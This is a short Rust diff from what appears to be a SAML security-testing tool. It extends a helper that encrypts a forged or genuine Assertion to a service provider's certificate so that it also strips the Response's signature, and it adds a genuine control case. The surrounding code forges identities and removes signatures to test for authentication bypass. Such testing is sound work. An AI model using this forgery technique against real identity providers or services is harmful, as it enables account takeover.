@@ -10,7 +10,9 @@ use crate::family::{evil_id, forge_document, strip_signatures, token, Parts};
 use crate::forge::{Forge, Forged, Skip};
 
 /// `xml` with its (first) Assertion replaced by an EncryptedAssertion of `plaintext(assertion)`
-/// for the SP's certificate.
+/// for the SP's certificate, and the Response's own signature (made over the plaintext, so
+/// broken now) removed: what is left is signed, if at all, inside the encryption, as Entra's
+/// default "Sign SAML assertion" does.
 fn encrypted(
     f: &Forge,
     xml: &str,
@@ -27,7 +29,18 @@ fn encrypted(
     }
     let sealed = xmlenc::encrypted_assertion(&plaintext(doc.outer(assertion)), cert, transport)
         .map_err(|e| Skip::Failed(format!("cannot encrypt to the SP certificate: {e}")))?;
-    Ok(splice(doc.src, vec![(assertion.range(), sealed)]))
+    let mut edits = vec![(assertion.range(), sealed)];
+    if let Some(response_signature) = crate::bytes::signature_of(doc.root()) {
+        edits.push((response_signature.range(), String::new()));
+    }
+    Ok(splice(doc.src, edits))
+}
+
+/// The IdP's own response, its Assertion encrypted to the SP (RSA-OAEP, AES-256-CBC): the
+/// control every encrypted-assertion check needs the SP to accept.
+pub fn genuine(f: &Forge) -> Result<Forged, Skip> {
+    let xml = encrypted(f, f.seed, KeyTransport::RsaOaep, &|a| a.to_owned())?;
+    Ok(Forged::same_identity(xml))
 }
 
 /// The identity forged, every signature removed, the Assertion encrypted to the SP
